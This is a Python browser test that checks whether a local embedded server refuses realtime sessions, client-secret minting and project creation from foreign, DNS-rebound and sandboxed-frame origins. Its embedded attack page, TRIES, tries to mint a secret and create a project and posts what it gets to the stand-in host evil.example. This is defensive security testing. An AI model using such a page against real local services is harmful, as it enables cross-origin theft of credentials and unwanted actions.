"""Pages in a real browser: which may use the embedded server, and which can't."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from browser import serving_pages
from chromium import browsers, needs_chromium
from embedded import run_server
from guards import Guard
from programs import REPOSITORY
from raw_distiller import agent, project

pytestmark = [
    pytest.mark.timeout(90),
    needs_chromium,
    pytest.mark.xdist_group("browser"),
]
EVIL = "evil.example"

# What a page can try: a session, a client secret, and a request whose answer it will not see.
TRIES = """
<script type="module">
const [host, port, told] = [HOST, PORT, TOLD];
const opened = await new Promise((done) => {
  const url = `ws://${host}:${port}/v1/realtime?model=gpt-realtime`;
  const socket = new WebSocket(url, ["realtime", "openai-insecure-api-key.any"]);
  socket.onmessage = (message) => done(JSON.parse(message.data).type);
  socket.onerror = () => done("refused");
});
const headers = {Authorization: "Bearer any", "Content-Type": "application/json",
                 "OpenAI-Beta": "realtime=v1", "X-Stainless-Lang": "js"};
const url = `http://${host}:${port}`;
const made = await fetch(`${url}/v1/realtime/client_secrets`, {method: "POST", headers, body: "{}"})
  .then((answer) => answer.json()).then((secret) => secret.value.slice(0, 3))
  .catch(() => "refused");
const body = JSON.stringify({project: NAME, config: CONFIG});
await fetch(`${url}/distiller/create`, {method: "POST", mode: "no-cors", body}).catch(() => 0);
await fetch(told, {method: "POST", mode: "no-cors", body: JSON.stringify([opened, made])});
</script>
"""


def documented_page(url: str, key: str, told: str) -> str:
    """The block of the documents, which logs the first event."""
    text = (REPOSITORY / "docs" / "local_server.md").read_text(encoding="utf-8")
    (block,) = re.findall(r"```html\n(.*?)```", text, re.DOTALL)
    assert block.count("ws://127.0.0.1:8765/v1") == block.count(".KEY") == 1
    tell = f'fetch("{told}", {{method: "POST", body: JSON.stringify(line)}})'
    block = block.replace("ws://127.0.0.1:8765/v1", url.replace("http", "ws", 1))
    return f"<script>console.log = (line) => {tell}</script>" + block.replace(".KEY", f".{key}")


def test_pages(tmp_path: Path, guard: Guard) -> None:
    config = project(agent("Guide"))
    projects = tmp_path / "projects"
    with (
        serving_pages() as pages,
        run_server("--projects", str(projects), key="") as server,
    ):
        port = server.url.split(":")[2].removesuffix("/v1")

        def trying(name: str, host: str, at: str) -> str:
            told = f"http://{at}:{pages.port}/told/{name}"
            values = {"HOST": host, "PORT": port, "TOLD": told, "NAME": name, "CONFIG": config}
            return re.sub("|".join(values), lambda found: json.dumps(values[found[0]]), TRIES)

        pages.pages = {
            "/here": trying("here", "127.0.0.1", "localhost"),
            "/name": trying("name", "app.localhost", "app.localhost"),
            "/foreign": trying("foreign", "127.0.0.1", EVIL),
            "/rebound": trying("rebound", EVIL, EVIL),
            "/framed": trying("framed", "127.0.0.1", "localhost"),
            "/documented": documented_page(server.url, "any", "/told/documented"),
        }
        frames = [
            f"http://localhost:{pages.port}/here",
            f"http://app.localhost:{pages.port}/name",
            f"http://{EVIL}:{pages.port}/foreign",
            f"http://{EVIL}:{pages.port}/rebound",
            f"http://localhost:{pages.port}/documented",
        ]
        pages.pages["/"] = "".join(f'<iframe src="{url}"></iframe>' for url in frames) + (
            f'<iframe sandbox="allow-scripts" src="http://localhost:{pages.port}/framed"></iframe>'
        )
        with browsers() as chromium:
            page = chromium.start(hosts={EVIL: "127.0.0.1"}).new_page()
            page.goto(f"http://localhost:{pages.port}/")
            names = {"here", "name", "foreign", "rebound", "framed", "documented"}
            told = pages.told(guard, names)
    allowed, refused = ["session.created", "ek_"], ["refused", "refused"]
    assert told == {
        "here": allowed,
        "name": allowed,
        "foreign": refused,
        "rebound": refused,
        "framed": refused,  # its origin is "null"
        "documented": "session.created",
    }
    made = sorted(folder.name for folder in projects.iterdir())
    assert made == ["here", "name"], "a request whose answer nobody sees has done nothing, either"
